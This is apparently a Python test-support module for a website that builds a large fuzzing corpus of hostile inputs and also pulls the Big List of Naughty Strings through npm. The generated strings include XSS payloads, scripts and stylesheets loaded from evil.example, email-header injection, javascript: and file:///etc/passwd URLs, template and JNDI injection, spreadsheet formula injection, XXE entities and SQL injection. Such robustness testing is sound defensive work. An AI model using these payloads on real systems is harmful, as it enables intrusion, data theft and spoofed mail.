"""Words that a page, an operator or a reader could hold and that want to be more than words.

Ours are made by rule: every way into a script times every place it could stand in, every line end times every header,
and so on. With npm, the Big List of Naughty Strings is added, which others keep.
"""

from __future__ import annotations

import json
import shutil
from itertools import product
from pathlib import Path

from tests import npm

LISTS = Path(__file__).parent / "lists"
TAGS = (
    "a", "abbr", "article", "audio", "base", "body", "button", "canvas", "datalist", "details", "dialog", "div",
    "embed",
    "fieldset", "font", "form", "frame", "frameset", "iframe", "image", "img", "input", "isindex", "keygen", "link",
    "listing", "map", "marquee", "math", "menu", "meta", "meter", "object", "option", "output", "plaintext", "portal",
    "progress", "select", "slot", "source", "style", "svg", "table", "template", "textarea", "track", "video", "xmp",
    "xss",
)  # fmt: skip
EVENTS = (
    "onload", "onerror", "onclick", "onfocus", "onblur", "onmouseover", "onpointerenter", "onanimationstart",
    "onanimationend", "ontransitionend", "onbegin", "onend", "onrepeat", "ontoggle", "onbeforetoggle", "onscroll",
    "onscrollend", "onwheel", "onresize", "onhashchange", "onmessage", "onpageshow", "onunload", "onbeforeunload",
    "onbeforeinput", "oninput", "oninvalid", "onsubmit", "onreset", "oncut", "oncopy", "onpaste", "ondrag", "ondrop",
    "onstart", "onfinish", "onbounce", "oncanplay", "onloadstart", "onplay", "ontimeupdate",
    "onsecuritypolicyviolation",
    "oncontentvisibilityautostatechange", "onwebkitplaybacktargetavailabilitychanged",
)  # fmt: skip
CODE = "window.ran=1"
AROUND = (
    "<{0}>", "\"><{0}>", "'><{0}>", "</title><{0}>", "</style><{0}>", "</textarea><{0}>", "</script><{0}>", "--><{0}>",
    "]]><{0}>", "</p></td></table><{0}>", "<!--<{0}>", "<![CDATA[<{0}>", "&lt;{0}&gt;", "&#60;{0}&#62;",
    "&#x3c;{0}&#x3e;",
    "\\u003c{0}\\u003e", "%3C{0}%3E", "+ADw-{0}+AD4-", "<\x00{0}>", "<\n{0}>", "＜{0}＞", "<<{0}>>",
)  # fmt: skip
INSIDE = (
    f"script>{CODE}</script", "script src=//evil.example/x.js></script", f"img src=x onerror={CODE}",
    f"svg/onload={CODE}", f"svg><script>{CODE}</script></svg", f"math><mi xlink:href='javascript:{CODE}'></math",
    f"iframe srcdoc='<script>parent.{CODE}</script>'", f"a href='javascript:{CODE}' autofocus onfocus={CODE}",
    f"details open ontoggle={CODE}", f"body onload={CODE}",
    f"meta http-equiv=refresh content='0;url=javascript:{CODE}'",
    "base href=//evil.example/", "link rel=stylesheet href=//evil.example/x.css", f"object data='javascript:{CODE}'",
    "form action=//evil.example><button autofocus>", "style>@import'//evil.example/x.css';</style",
    f"input onfocus={CODE} autofocus", f"video><source onerror={CODE}></video", f"template><script>{CODE}</script>",
    f"noscript><p title='</noscript><img src=x onerror={CODE}>'",
)  # fmt: skip
LINE_ENDS = ("\n", "\r", "\r\n", "\n\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\\r\\n",
             "%0d%0a", "%0A", "\r\n\r\n", "\n ", "\r\n\t", "\x00\r\n", "嘊嘍", "=?utf-8?q?=0D=0A?=",
             "=0D=0A")  # fmt: skip
HEADERS = (
    "Bcc: victim@evil.example", "To: victim@evil.example", "Cc: victim@evil.example", "Subject: another",
    "Reply-To: a@evil.example", "Content-Type: text/html", "Return-Path: <a@evil.example>", "List-Unsubscribe: <x>",
    "Content-Transfer-Encoding: base64", "Message-ID: <1@evil.example>", "Set-Cookie: a=b", "Location: //evil.example",
    "MIME-Version: 2.0", ".", "RCPT TO:<victim@evil.example>", "DATA", "QUIT", "--boundary",
)  # fmt: skip
ADDRESSES = tuple(
    f"{scheme}{rest}"
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
                   "javascript&colon;", "data:text/html,", "data:text/html;base64,", "vbscript:", "file:///", "blob:",
                   "//", "///", "\\\\", "http:evil.example/", "https://evil.example\\@ours.example/", "view-source:")
    for rest in (CODE, f"<script>{CODE}</script>", "//%0a" + CODE, "evil.example", "etc/passwd")
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{%raw%}", "{% include 'base.html.j2' %}", "{{config}}", "{{self.__init__.__globals__}}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{=7*7}}", "%(name)s", "%s%n%x", "{0.__class__}", "{}", "$(id)", "`id`",
    "${jndi:ldap://x}",
    "{{''.__class__.__mro__}}", "{#", "#}", "{{", "}}", "{%", "%}", "__import__('os')",
)  # fmt: skip
SHEETS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"//evil.example\")", "=cmd|'/C calc'!A0",
          "%0A=1",
          "\u200b=1", "＝1+1", ";=1", ",=1", "\"=1")  # fmt: skip
MARKUP = ("&xxe;", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "]]>", "<?xml version='1.1'?>",
          "<?php x ?>",
          "&#0;", "&#x1F;", "\ufffe", "\uffff", "<xi:include href='file:///etc/passwd'/>", "</entry><entry>",
          "</alert>",
          "<a:b xmlns:a='x'>", "*bold* _it_ <http://evil.example|link>", "<!channel>", "<!here>", "<@U1>", "@everyone",
          "[x](http://evil.example)", "![x](http://evil.example/p.png)", "`code`", "# head", "> quote")  # fmt: skip
SIGNS = (*(chr(n) for n in range(32)), "\x7f", "\x80", "\x9b31m", "\x1b[31m", "\x1b]0;x\x07", "\u202e", "\u2066",
         "\u200b",
         "\u200d", "\u2060", "\ufeff", "\U000e0041", "\ud800", "\udfff", "\ud83d", "a\u0300" * 200,
         "\U0001f468\u200d" * 50,
         "ﷺ" * 100, "\u0130\u0131", "ß", "ﬁ")  # fmt: skip
QUERIES = ("' OR 1=1--", "'; DROP TABLE changes;--", "\" OR \"\"=\"", "1) UNION SELECT 1--", "\\'; --", "%' AND 1=0 --",
           "_%", "'||(SELECT 1)||'", "x' COLLATE NOCASE", "$1", ":name", "?")  # fmt: skip


def ours() -> tuple[str, ...]:
    """At least 3,700 of our own, each once."""
    made = [
        *(f"<{tag} {event}={CODE}>x</{tag}>" for tag, event in product(TAGS, EVENTS)),
        *(f"\" {event}={CODE} x=\"" for event in EVENTS), *(f"' autofocus {event}='{CODE}" for event in EVENTS),
        *(around.format(inside) for around, inside in product(AROUND, INSIDE)),
        *(f"Mali{end}{header}" for end, header in product(LINE_ENDS, HEADERS)),
        *(f"reader@ngo.example{end}{header}" for end, header in product(LINE_ENDS, HEADERS)),
        *ADDRESSES, *TEMPLATES, *SHEETS, *MARKUP, *SIGNS, *QUERIES,
        *(f"Level 4{sign}Do not travel" for sign in SIGNS),
        *(sign * 10_000 for sign in ("x", "<", "&", "\"", "\n", "(", "\u202e")),
    ]  # fmt: skip
    return tuple(dict.fromkeys(made))


def naughty() -> tuple[str, ...]:
    """The list that others keep; empty where there is no npm."""
    if shutil.which("npm") is None:
        return ()
    folder = npm.installed(LISTS, "NO STRING OF THE BIG LIST WAS TRIED")
    found = folder / "node_modules/big-list-of-naughty-strings/blns.json"
    return tuple(one for one in json.loads(found.read_text(encoding="utf-8")) if one)
